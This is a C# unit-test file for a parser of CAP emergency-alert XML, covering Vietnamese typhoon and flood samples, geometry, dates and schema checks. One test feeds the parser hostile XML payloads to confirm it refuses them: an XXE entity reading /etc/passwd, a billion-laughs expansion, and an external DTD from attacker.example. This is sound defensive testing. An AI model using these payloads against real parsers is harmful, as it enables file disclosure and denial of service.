using TanKy.Hub.Emergency.Cap;

namespace TanKy.Hub.Tests.Emergency;

public sealed class CapParser_Tests
{
    [Fact]
    public void A_typhoon_warning_parses_with_both_languages_and_its_geocode()
    {
        var result = CapParser.Parse(CapSamples.Bytes(CapSamples.Typhoon()));

        result.Errors.Should().BeEmpty();
        var alert = result.Alert!;
        alert.Status.Should().Be(CapStatus.Actual);
        alert.Sent.Should().Be(new DateTimeOffset(2026, 11, 28, 5, 55, 0, TimeSpan.FromHours(7)));
        alert.Infos.Should().HaveCount(2);
        alert.Infos[0].Headline.Should().Be("Bão số 3 đổ bộ vào Nghệ An, đề nghị bà con sơ tán khẩn cấp");
        alert.Infos[0].Areas[0].Geocodes.Should().ContainSingle().Which.Should().Be(new CapGeocode("ISO3166-2", "VN-22"));
    }

    [Fact]
    public void The_flood_polygon_is_read_as_closed_lat_lon_pairs()
    {
        var alert = CapParser.Parse(CapSamples.Bytes(CapSamples.Flood())).Alert!;

        var polygon = alert.Infos[0].Areas[0].Polygons.Should().ContainSingle().Subject;
        polygon.Should().HaveCount(6);
        polygon[0].Should().Be(new GeoPoint(19.018, 105.286));
        polygon[^1].Should().Be(polygon[0]);
    }

    [Fact]
    public void References_are_sender_identifier_sent_triples()
    {
        var alert = CapParser.Parse(CapSamples.Bytes(CapSamples.FloodUpdate())).Alert!;

        alert.References.Should().ContainSingle().Which.Should().Be(new CapReference(CapSamples.Sender, "PCTT-TK-2026-041", new DateTimeOffset(2026, 11, 28, 5, 55, 0, TimeSpan.FromHours(7))));
    }

    [Theory]
    [InlineData("<alert xmlns=\"urn:oasis:names:tc:emergency:cap:1.2\"><identifier>x</identifier>", "malformed XML")]
    [InlineData("not xml at all", "malformed XML")]
    [InlineData("<alert xmlns=\"urn:oasis:names:tc:emergency:cap:1.1\"/>", "expected <alert> in urn:oasis:names:tc:emergency:cap:1.2")]
    [InlineData("<alert/>", "no namespace")]
    public void Malformed_documents_are_refused_with_the_reason(string xml, string reason)
    {
        var result = CapParser.Parse(CapSamples.Bytes(xml));

        result.IsValid.Should().BeFalse();
        result.Errors.Should().ContainSingle().Which.Should().Contain(reason);
    }

    [Fact]
    public void A_missing_required_element_is_named_with_its_path()
    {
        var xml = CapSamples.Typhoon().Replace("<sender>" + CapSamples.Sender + "</sender>", "").Replace("<certainty>Likely</certainty>", "");

        var errors = CapParser.Parse(CapSamples.Bytes(xml)).Errors;

        errors.Should().Contain(e => e.StartsWith("alert/sender", StringComparison.Ordinal) && e.Contains("required element is missing"));
        errors.Should().Contain(e => e.StartsWith("alert/info[1]/certainty", StringComparison.Ordinal));
        errors.Should().Contain(e => e.StartsWith("alert/info[2]/certainty", StringComparison.Ordinal));
    }

    [Fact]
    public void Bad_enumerations_are_refused_with_the_allowed_values_and_the_line()
    {
        var xml = CapSamples.Typhoon().Replace("<urgency>Expected</urgency>", "<urgency>Soon</urgency>").Replace("<status>Actual</status>", "<status>actual</status>");

        var errors = CapParser.Parse(CapSamples.Bytes(xml)).Errors;

        errors.Should().Contain(e => e.StartsWith("alert/status (line 6)", StringComparison.Ordinal) && e.Contains("'actual' is not one of Actual, Exercise, System, Test, Draft"));
        errors.Should().Contain(e => e.StartsWith("alert/info[1]/urgency", StringComparison.Ordinal) && e.Contains("'Soon'"));
    }

    [Theory]
    [InlineData("""<?xml version="1.0"?><!DOCTYPE alert [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>&xxe;</identifier></alert>""")]
    [InlineData("""<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]><alert xmlns="urn:oasis:names:tc:emergency:cap:1.2">&lol2;</alert>""")]
    [InlineData("""<?xml version="1.0"?><!DOCTYPE alert SYSTEM "http://attacker.example/cap.dtd"><alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"/>""")]
    public void Dtds_and_entities_are_refused_without_being_resolved(string xml)
    {
        var result = CapParser.Parse(CapSamples.Bytes(xml));

        result.Errors.Should().ContainSingle().Which.Should().Contain("DTDs and entity declarations are not allowed");
    }

    [Fact]
    public void Oversized_messages_are_refused_before_parsing()
    {
        var xml = CapSamples.Typhoon().Replace("<description>", "<description>" + new string('x', 5000));

        CapParser.Parse(new MemoryStream(CapSamples.Bytes(xml)), maxBytes: 4096).Errors.Should().ContainSingle().Which.Should().Contain("larger than 4096 bytes");
    }

    [Theory]
    [InlineData("2026-11-28T05:55:00Z", "uses 'Z'")]
    [InlineData("2026-11-28 05:55:00+07:00", "not a CAP date-time")]
    [InlineData("2026-02-30T05:55:00+07:00", "not a valid calendar date-time")]
    public void Dates_need_the_CAP_form_with_a_numeric_offset(string sent, string reason)
    {
        var xml = CapSamples.Typhoon().Replace("2026-11-28T05:55:00+07:00", sent);

        CapParser.Parse(CapSamples.Bytes(xml)).Errors.Should().Contain(e => e.StartsWith("alert/sent", StringComparison.Ordinal) && e.Contains(reason));
    }

    [Theory]
    [InlineData("<polygon>19.0,105.0 19.1,105.0 19.1,105.1 19.0,105.0</polygon>", null)]
    [InlineData("<polygon>19.0,105.0 19.1,105.0 19.1,105.1</polygon>", "at least 4 coordinate pairs")]
    [InlineData("<polygon>19.0,105.0 19.1,105.0 19.1,105.1 19.2,105.0</polygon>", "must be closed")]
    [InlineData("<polygon>19.0;105.0 19.1,105.0 19.1,105.1 19.0;105.0</polygon>", "not a 'lat,lon' pair")]
    [InlineData("<circle>19.04,105.27 1.5</circle>", null)]
    [InlineData("<circle>19.04,105.27</circle>", "not 'lat,lon radius'")]
    [InlineData("<circle>95.0,105.27 1</circle>", "outside WGS 84")]
    public void Geometry_is_checked(string shape, string? reason)
    {
        var xml = CapSamples.Flood().Replace(CapSamples.Flood().Split("<polygon>")[1].Split("</polygon>")[0], "X").Replace("<polygon>X</polygon>", shape);

        var errors = CapParser.Parse(CapSamples.Bytes(xml)).Errors;

        if (reason is null)
        {
            errors.Should().BeEmpty();
        }
        else
        {
            errors.Should().ContainSingle().Which.Should().Contain(reason);
        }
    }

    [Fact]
    public void Element_order_multiplicity_and_unknown_elements_follow_the_schema()
    {
        var xml = CapSamples.Typhoon()
            .Replace("<scope>Public</scope>", "<scope>Public</scope><colour>red</colour>")
            .Replace("<headline>Bão số 3", "<event>again</event><headline>Bão số 3");
        var outOfOrder = CapSamples.Typhoon().Replace("<status>Actual</status>\n  <msgType>Alert</msgType>", "<msgType>Alert</msgType>\n  <status>Actual</status>");

        var errors = CapParser.Parse(CapSamples.Bytes(xml)).Errors;

        errors.Should().Contain(e => e.StartsWith("alert/colour", StringComparison.Ordinal) && e.Contains("unknown element"));
        errors.Should().Contain(e => e.StartsWith("alert/info[1]/event", StringComparison.Ordinal) && e.Contains("at most 1"));
        CapParser.Parse(CapSamples.Bytes(outOfOrder)).Errors.Should().Contain(e => e.Contains("out of order"));
    }

    [Fact]
    public void Private_scope_needs_addresses_and_identifiers_have_no_commas()
    {
        var xml = CapSamples.Typhoon().Replace("<scope>Public</scope>", "<scope>Private</scope>").Replace("KTTV-BTB-2026-0315", "KTTV,0315");

        var errors = CapParser.Parse(CapSamples.Bytes(xml)).Errors;

        errors.Should().Contain(e => e.StartsWith("alert/addresses", StringComparison.Ordinal));
        errors.Should().Contain(e => e.StartsWith("alert/identifier", StringComparison.Ordinal) && e.Contains("commas"));
    }
}
